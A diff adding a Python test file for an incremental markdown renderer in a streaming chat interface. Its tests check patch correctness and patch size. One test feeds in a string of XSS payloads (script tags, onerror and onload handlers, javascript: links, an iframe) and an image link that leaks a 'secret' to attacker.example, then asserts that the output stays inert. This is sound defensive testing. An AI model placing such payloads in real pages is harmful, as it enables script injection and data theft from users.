@@ -1,0 +1,110 @@
+"""The incremental path: patches rebuild exactly the full render, stay inert, and stay small."""
+
+from __future__ import annotations
+
+import re
+
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from app.ui.incremental import IncrementalMarkdown, Patch
+from app.ui.markdown import render_markdown
+
+
+def apply(html: str, patch: Patch) -> str:
+    """What the browser does with a patch (streaming_markdown.js)."""
+    return html[: patch.keep] + patch.append
+
+
+def stream(text: str, cuts: list[int]):
+    """Feed `text` in pieces ending at `cuts`; yield (text so far, HTML so far, patch) after each piece."""
+    markdown, html = IncrementalMarkdown(), ""
+    for end in [*sorted(set(cuts)), len(text)]:
+        if patch := markdown.update(text[:end]):
+            html = apply(html, patch)
+            yield text[:end], html, patch
+    if patch := markdown.finish(text):
+        html = apply(html, patch)
+        yield text, html, patch
+
+
+PIECES = [*"ab 1.#*-_`|>[]()!:=~", "\n", "\n\n", "```", "    ", "- ", "| a | b |\n|---|---|\n", "[r]: https://x.y\n"]
+MARKDOWNISH = st.lists(st.sampled_from(PIECES), max_size=60).map("".join)
+
+
+@given(text=MARKDOWNISH, cuts=st.lists(st.integers(min_value=0, max_value=200), max_size=25))
+@settings(max_examples=300, deadline=None)
+def test_patches_rebuild_the_full_render_and_never_touch_what_was_declared_stable(text, cuts):
+    cuts = [c for c in cuts if c <= len(text)]
+    stable_html = ""
+    html = ""
+    for _, html, patch in stream(text, cuts):
+        if patch.keep:
+            assert patch.keep >= len(stable_html), "a patch rewrote HTML that was declared final"
+            assert html.startswith(stable_html)
+        stable_html = html[: patch.stable]
+    assert html == render_markdown(text)
+    assert stable_html == html, "after the last patch everything is final"
+
+
+def test_while_streaming_the_html_is_the_full_render_of_the_text_so_far():
+    text = (
+        "# Plan\n\nFirst **bold** words, then a list:\n\n- one\n- two\n\n```python\nfor i in range(3):\n"
+        "    print(i)\n```\n\n| col | val |\n|-----|-----|\n| a   | 1   |\n\nDone.\n"
+    )
+    for so_far, html, _ in stream(text, list(range(0, len(text), 3))):
+        assert html == render_markdown(so_far)
+
+
+def test_an_open_code_fence_and_a_half_written_table_render_while_streaming():
+    text = "Look:\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n"
+    markdown, html, seen = IncrementalMarkdown(), "", {}
+    for end in range(1, len(text) + 1):  # one character at a time, as the slowest provider would send it
+        if patch := markdown.update(text[:end]):
+            html = apply(html, patch)
+        seen[text[:end]] = html
+
+    assert seen["Look:\n\n```js\nconst a"].endswith(
+        '<pre><code class="language-js"><span class="kd">const</span>'
+        '<span class="w"> </span><span class="nx">a</span>\n</code></pre>\n'
+    )
+    assert "<td>1</td>" in seen["Look:\n\n```js\nconst a = 1;\n```\n\n| a | b |\n|---|---|\n| 1 |"]
+
+
+HOSTILE = (
+    "Hi <script>alert(1)</script> <img src=x onerror=alert(2)>\n\n[a](javascript:alert(3)) "
+    "[b][r] <svg onload=alert(4)> <iframe src=https://e.example></iframe>\n\n"
+    "![leak](https://attacker.example/x.png?q=secret)\n\n[r]: javascript:alert(5)\n"
+)
+
+
+def test_hostile_output_stays_inert_at_every_step_of_the_incremental_path():
+    for _, html, patch in stream(HOSTILE, list(range(len(HOSTILE)))):
+        for piece in (html, patch.append):
+            assert not re.search(r"<\s*(script|img|svg|iframe)", piece)
+            assert not re.search(r"<[^>]+\son\w+\s*=", piece)
+            assert "javascript:" not in "".join(re.findall(r'href="([^"]*)"', piece))
+
+
+def test_each_update_sends_only_what_changed_not_the_whole_reply():
+    paragraphs = [f"Paragraph {i} says something **useful** about item {i}.\n\n" for i in range(500)]
+    text = "".join(paragraphs)
+    cuts = list(range(0, len(text), 40))
+    sizes = [len(patch.append) for _, _, patch in stream(text, cuts)][:-1]
+
+    assert max(sizes) < 200, "no update re-sends finished blocks"
+    assert sum(sizes) < 3 * len(render_markdown(text))
+
+
+def test_finished_blocks_are_not_rendered_again(monkeypatch):
+    import app.ui.incremental as incremental
+
+    rendered = []
+    real_render = incremental.render_tokens
+    monkeypatch.setattr(
+        incremental, "render_tokens", lambda tokens: rendered.append(len(tokens)) or real_render(tokens)
+    )
+    text = "".join(f"Block {i}.\n\n" for i in range(300))
+    list(stream(text, list(range(0, len(text), 7))))
+
+    assert max(rendered) <= 6, "only the last block or two are ever re-rendered"
